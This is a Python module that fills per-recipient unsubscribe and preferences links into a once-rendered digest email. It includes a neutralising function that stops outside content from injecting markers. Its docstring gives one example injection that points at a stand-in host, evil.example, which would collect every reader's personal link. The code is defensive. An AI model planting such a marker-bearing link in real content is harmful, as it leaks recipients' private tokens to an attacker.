"""Filling per-recipient values into an email rendered once per issue.

The rendered HTML and text carry markers such as ``__DIGEST_UNSUBSCRIBE_URL__``. ``Personalizer`` splits
them once; filling a recipient is then a join of pre-cut pieces, with no template engine on the hot path.
Token characters (URL-safe base64 and dots) need no HTML escaping, so values go in as they are. The same
markers are the keys of SendGrid's ``substitutions``, so a provider can do the filling instead.

Nothing from outside may write a marker: a summary, a feed item or an editor's words holding
``https://evil.example/?u=__DIGEST_PREFERENCES_URL__`` would otherwise send every reader's own link
there. So every value from outside passes through ``neutralised`` on its way into a render (the
templates' finalize hook) and into a message's subject (``SharedBody``): the marker's prefix is cut by a
zero-width space, which no filling and no provider substitution matches. Only the template's own
``Marker`` values pass unchanged.
"""

import re
from dataclasses import dataclass

MARKERS = {
    "unsubscribe": "__DIGEST_UNSUBSCRIBE_URL__",
    "preferences": "__DIGEST_PREFERENCES_URL__",
}
# The prefix every marker starts with, in any case: cut in anything written from outside.
_PREFIX = re.compile(r"(?i)(_)(_digest_)")


class Marker(str):
    """A marker placed by a template: the one kind of value ``neutralised`` leaves alone."""

    __slots__ = ()


def neutralised(text: str) -> str:
    """``text`` with anything that could be read as a marker cut by a zero-width space."""
    if isinstance(text, Marker):
        return text
    return _PREFIX.sub("\\1\u200b\\2", text)


_SPLIT = re.compile("(" + "|".join(re.escape(marker) for marker in MARKERS.values()) + ")")
_NAME_OF = {marker: name for name, marker in MARKERS.items()}


@dataclass(frozen=True)
class RecipientLinks:
    unsubscribe: str
    preferences: str

    def values(self) -> dict[str, str]:
        """Marker -> value, as a mail backend substitutes them."""
        return {MARKERS["unsubscribe"]: self.unsubscribe, MARKERS["preferences"]: self.preferences}


class Personalizer:
    """A document cut at its markers, ready to be filled for each recipient."""

    def __init__(self, document: str) -> None:
        pieces = _SPLIT.split(document)
        self._literals = pieces[0::2]
        self._slots = [_NAME_OF[marker] for marker in pieces[1::2]]

    def fill(self, links: RecipientLinks) -> str:
        return self._join([getattr(links, name) for name in self._slots])

    def fill_values(self, values: dict[str, str]) -> str:
        """Fill from marker -> value pairs (the form mail backends receive)."""
        return self._join([values[MARKERS[name]] for name in self._slots])

    def _join(self, values: list[str]) -> str:
        out = [self._literals[0]]
        for value, literal in zip(values, self._literals[1:], strict=True):
            out.append(value)
            out.append(literal)
        return "".join(out)
